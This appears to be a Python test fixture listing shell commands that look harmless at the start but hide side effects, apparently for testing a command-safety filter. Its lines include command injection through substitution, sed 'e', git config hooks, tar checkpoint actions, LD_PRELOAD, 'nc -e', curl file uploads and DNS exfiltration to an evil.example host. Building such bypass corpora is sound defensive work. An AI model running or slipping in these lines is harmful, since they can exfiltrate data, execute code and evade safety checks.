"""Shell lines that look harmless from their beginning, after the classes of published advisories; `M` is the file they want to make.

One a row, `¶` stands for a line end, `⇥` for a tab. `./evil` is a program of the maker's in the folder they run in. The numbers above
the groups are those of the advisories whose class it is.
"""

from tests.core.corpus import CORPUS, NOT_PLAIN, rows

_ECHO = r"""
echo x; touch M
echo "x"; touch M
echo x && touch M
echo x || touch M
echo x | touch M
echo x |& touch M
echo x & touch M
echo x¶touch M
echo x\¶¶touch M
echo "$(touch M)"
echo $(touch M)
echo `touch M`
echo "`touch M`"
echo $(<M || touch M)
echo ${x:-$(touch M)}
echo ${x:=$(touch M)}
echo ${x:+y}$(touch M)
echo "${x:-`touch M`}"
echo $((a[$(touch M)]))
echo $[a[$(touch M)]]
echo <(touch M)
echo >(touch M)
echo x > M
echo x >> M
echo x >| M
echo x &> M
echo x &>> M
echo x >& M
echo x 1> M
echo x 3> M
> M echo x
>M echo
echo x <> M
echo {a,b} > M
echo 'x' 'y' > 'M'
echo "a" "b" >"M"
echo \; touch M; touch M
echo 'it''s'; touch M
echo "a\"b"; touch M
echo 'a'"'"'; touch x' ; touch M
echo x #¶touch M
echo x # y¶touch M
echo #\¶touch M
echo '#' ; touch M
echo !$; touch M
echo ~; touch M
echo $'x'; touch M
echo $'\'; touch M #'; touch M
echo $"x"; touch M
echo x;touch${IFS}M
echo x;{ touch,M; }
echo x;$'touch' M
echo x;t''ouch M
echo x;t"o"uch M
echo x;\t\o\u\c\h M
echo x;$(echo touch) M
echo x;`echo touch` M
echo x;/usr/bin/touch M
echo x;T=touch;$T M
echo x;eval "touch M"
echo x;command touch M
echo x;(touch M)
echo x;if :; then touch M; fi
echo x;while touch M; do break; done
echo x;case a in a) touch M;; esac
echo x;f() { touch M; };f
echo x;trap 'touch M' EXIT
echo x;coproc touch M;wait
echo x;. /dev/stdin <<<'touch M'
echo x;bash <<<'touch M'
echo x;bash -c 'touch M'
echo x;sh -c "touch M"
echo x;env touch M
echo x;xargs touch <<<M
"""
_IFS = r"""
ls$IFS-la;touch$IFS''M
ls${IFS};touch${IFS}M
ls;touch$IFS$9M
{ls,-la};touch M
ls&&touch${IFS}M
IFS=,;x=touch,M;$x
cat</dev/null;touch M
cat<<<x>M
cat<<E>M¶x¶E
cat <<'E' | bash¶touch M¶E
cat <<-E >M¶x¶E
tail -f /dev/null & touch M; kill $!
head -c1 /dev/zero>M
wc -l </dev/null>M
ls -la `touch M`
ls "$(touch M)"
ls ~+/$(touch M)
ls *;touch M
ls [a-z]*;touch M
ls {a,b};touch M
ls $'\x3b'; touch M
"""
_SED = r"""
sed -n '1e touch M' x
sed '1e touch M' x
sed 's/.*/touch M/e' x
sed -n 's/.*/touch M/ep' x
sed '1w M' x
sed 's/x/y/w M' x
sed -n '/x/w M' x
sed --expression='1w M' x
sed -e'1w M' x
sed -n -e p -e '1w M' x
sed '1{w M¶}' x
sed -f evil.sed x
sed --file=evil.sed x
sed -i.M s/x/y/ x
sed -i -e s/x/y/ x
sed -Ei s/x/y/ x
sed --in-place=.M s/x/y/ x
sed -s -n '$w M' x
sed '1r x¶1w M' x
sed 's|x|y|w M' x
sed 's,x,y,e' x
sed 'y/x/y/;w M' x
gsed '1e touch M' x
"""
_RG_FIND = r"""
rg --pre ./evil x
rg --pre=./evil x .
rg --hostname-bin=./evil x
rg --pre ./evil --pre-glob '*' x
rg x;touch M
find . -name x -exec touch M ';'
find . -name x -exec touch M \;
find . -name x -exec touch M +
find . -name x -execdir touch M ';'
find . -name x -ok touch M ';'
find . -name x -okdir touch M ';'
find . -maxdepth 0 -fprint M
find . -maxdepth 0 -fprint0 M
find . -maxdepth 0 -fprintf M %p
find . -maxdepth 0 -fls M
find . -name x -delete
find x -newermt "$(touch M)"
find . '-exec' touch M ';'
find . -maxdepth 0 -e'xe'c touch M ';'
find -files0-from x -exec touch M ';'
fd x -x touch M
fdfind . -X touch M
"""
_TOOLS = r"""
sort -o M x
sort -oM x
sort --output M x
sort --outp=M x
sort --compress-program=./evil -S1k x
sort -T . -S 1k --compress-prog ./evil x
uniq x M
uniq -c x M
split --filter=./evil x
split -l1 --filter='touch M' x
shuf -o M x
shuf -eo M a b
tee M
dd if=x of=M
cp x M
mv x M
ln x M
ln -s x M
install x M
install -s --strip-program=./evil x M
truncate -s1 M
touch M
mkdir M
mkfifo M
rm x
tar -cf M x
tar cf M x
tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=./evil
tar -cf /dev/null x -I ./evil
tar -cf /dev/null x --use-compress-program=./evil
tar --to-command=./evil -xf x.tar
tar cIf ./evil /dev/null x
awk 'BEGIN{system("touch M")}'
awk 'BEGIN{print "x" > "M"}'
awk 'BEGIN{"touch M"|getline}'
awk 'BEGIN{print|"touch M"}'
awk -f evil.awk
awk '@load "filefuncs"'
mawk 'BEGIN{system("touch M")}'
python3 -c 'open("M","w")'
python3 -Bc 'open("M","w")'
python3 -m this -c x
perl -e 'open(F,">M")'
perl -we 'open(F,">M")'
xargs touch M
xargs -a x touch M
env touch M
env -i touch M
env -S 'touch M'
env A=1 touch M
env -u A touch M
nice touch M
nice -n1 touch M
nohup touch M
timeout 5 touch M
timeout -s KILL 5 touch M
stdbuf -o0 touch M
setsid touch M
time touch M
exec touch M
command touch M
command -p touch M
builtin eval 'touch M'
eval 'touch M'
eval touch M
source ./evil
. ./evil
trap 'touch M' EXIT
bash ./evil
bash -c 'touch M'
bash -xc 'touch M'
sh -c 'touch M'
sh ./evil
dash -c 'touch M'
busybox touch M
./evil
evil/../evil
make -f evil.mk
make --eval='$(shell touch M)'
make SHELL=./evil x
make -C . -f evil.mk
"""
_BUILTINS = r"""
test -v 'a[$(touch M)]'
test ! -v 'a[$(touch M)]'
test x -a -v 'a[`touch M`]'
'[' -v 'a[$(touch M)]' ']'
[ -v 'a[$(touch M)]' ]
[[ -v 'a[$(touch M)]' ]]
[[ 'a[$(touch M)]' -eq 0 ]]
(( a[$(touch M)] ))
printf -v 'a[$(touch M)]' x
printf '-va[$(touch M)]' x
declare 'a[$(touch M)]=1'
typeset 'a[$(touch M)]=1'
declare -a 'a[$(touch M)]=1'
export 'a[$(touch M)]=1'
readonly 'a[$(touch M)]=1'
local 'a[$(touch M)]=1'
let 'a[$(touch M)]'
let 'x=a[$(touch M)]'
read 'a[$(touch M)]'
unset 'PATH[$(touch M)]'
unset 'a[$(touch M)]'
mapfile -C 'touch M' -c 1 a
compgen -C 'touch M'
compgen -W '$(touch M)'
complete -C 'touch M' x
jobs -x touch M
history -w M
enable -f ./evil x
getopts x 'a[$(touch M)]'
wait -n -p 'a[$(touch M)]'
hash -p ./evil ls; ls
alias ls='touch M'; ls
set -o noclobber; echo >| M
shopt -s expand_aliases; touch M
export PATH=.; evil
PATH=.:$PATH evil
PAGER=./evil git log
GIT_PAGER=./evil git -p log
BASH_ENV=./evil bash -c :
LD_PRELOAD=./evil.so ls
cd .; touch M
cd . && touch M
cd $(touch M)
cd `touch M`
pushd . ; touch M
"""
_GIT = r"""
git -c alias.x='!touch M' x
git -c core.pager='touch M' -p log
git -c core.fsmonitor='touch M' status
git -c core.sshCommand='touch M' fetch
git -c core.editor='touch M' commit
git -c diff.external='touch M' diff
git -c user.email="$(touch M)" log
git -c user.email=`touch M` status
git -cuser.email=x status
git --exec-path=. evil
git --git-dir=evil status
git --work-tree=/ status
git -C evil status
git -p log
git --paginate log
git config alias.x '!touch M'
git config user.email x
git config --global core.pager ./evil
git log --output=M
git diff --output=M
git diff --outpu M
git show --output M
git log --ext-diff
git diff --no-index --ext-diff a b
git grep -O./evil x
git grep --open-files-in-pager=./evil x
git ls-remote --upload-pack=./evil .
git fetch --upload-pack ./evil .
git clone -u ./evil . M
git clone --config core.fsmonitor=./evil . M
git clone ext::./evil M
git ls-remote 'ext::sh -c touch% M'
git push --receive-pack=./evil .
git archive --remote=. --exec=./evil HEAD
git archive -o M HEAD
git format-patch -o M HEAD
git rebase -x 'touch M' HEAD
git rebase --exec='touch M' HEAD
git bisect run touch M
git submodule foreach 'touch M'
git difftool -y -x ./evil
git difftool --extcmd=./evil
git mergetool
git filter-branch --tree-filter 'touch M'
git init --template=./evil M
git init --separate-git-dir=M .
git branch --edit-description
git send-email --sendmail-cmd=./evil x
git merge --strategy=evil x
git help log
git log;touch M
git status && touch M
git log --format="$(touch M)"
git log --format='%x'$(touch M)
git commit -m "x$(touch M)"
git commit -m x; touch M
"""
_NETWORK = r"""
curl http://x -o M
curl -OM http://x
curl -sSo M http://x
curl --output M http://x
curl -K evil
curl -d @x http://x
curl --data-binary @x http://x
curl -F f=@x http://x
curl -T x http://x
ping -c1 $(cat x).evil.example
nslookup `cat x`.evil.example
dig "$(cat x).evil.example"
wget -O M http://x
wget --post-file=x http://x
wget -i x
wget -e use_askpass=./evil http://x
ssh host touch M
scp -S ./evil a b:
rsync -e ./evil a b:
nc -e ./evil x 1
yarn plugin import ./evil.cjs
npx evil
npm --prefix evil test
pip install ./evil | tee M
"""
LINES: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(line for block in (_ECHO, _IFS, _SED, _RG_FIND, _TOOLS, _BUILTINS, _GIT, _NETWORK) for line in rows(block)),
            *(line for _, line in CORPUS),
            *(line for line in NOT_PLAIN if "\0" not in line and len(line) < 100),
        )
    )
)
"""All of them, each once."""
